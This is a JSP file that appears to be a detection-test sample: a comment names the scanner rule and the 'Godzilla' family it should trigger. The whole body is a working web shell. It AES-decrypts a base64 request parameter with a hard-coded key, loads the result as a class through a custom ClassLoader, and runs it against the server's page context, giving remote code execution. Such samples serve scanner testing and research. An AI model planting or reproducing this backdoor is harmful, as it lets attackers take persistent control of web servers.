<%-- expect rule=jsp.classloader-input min=95 family=Godzilla --%>
<%!
    String secret = "5f2b7c1d9e3a4b6c";
    String token = "tk";
    String sum = hash(token + secret);
    class Box extends ClassLoader {
        public Box(ClassLoader p) { super(p); }
        public Class make(byte[] b) { return super.defineClass(b, 0, b.length); }
    }
    public byte[] crypt(byte[] data, boolean enc) {
        try {
            javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES");
            c.init(enc ? 1 : 2, new javax.crypto.spec.SecretKeySpec(secret.getBytes(), "AES"));
            return c.doFinal(data);
        } catch (Exception e) { return null; }
    }
    public static String hash(String s) {
        String r = null;
        try {
            java.security.MessageDigest md = java.security.MessageDigest.getInstance("MD5");
            md.update(s.getBytes(), 0, s.length());
            r = new java.math.BigInteger(1, md.digest()).toString(16).toUpperCase();
        } catch (Exception e) { }
        return r;
    }
    public static byte[] unb64(String s) throws Exception {
        Class<?> k = Class.forName("java.util.Base64");
        Object dec = k.getMethod("getDecoder").invoke(k);
        return (byte[]) dec.getClass().getMethod("decode", String.class).invoke(dec, s);
    }
%>
<%
    try {
        byte[] data = unb64(request.getParameter(token));
        data = crypt(data, false);
        if (session.getAttribute("payload") == null) {
            session.setAttribute("payload", new Box(this.getClass().getClassLoader()).make(data));
        } else {
            request.setAttribute("parameters", data);
            java.io.ByteArrayOutputStream buf = new java.io.ByteArrayOutputStream();
            Object f = ((Class) session.getAttribute("payload")).newInstance();
            f.equals(buf);
            f.equals(pageContext);
            response.getWriter().write(sum.substring(0, 16));
            f.toString();
            response.getWriter().write(sum.substring(16));
        }
    } catch (Exception e) { }
%>
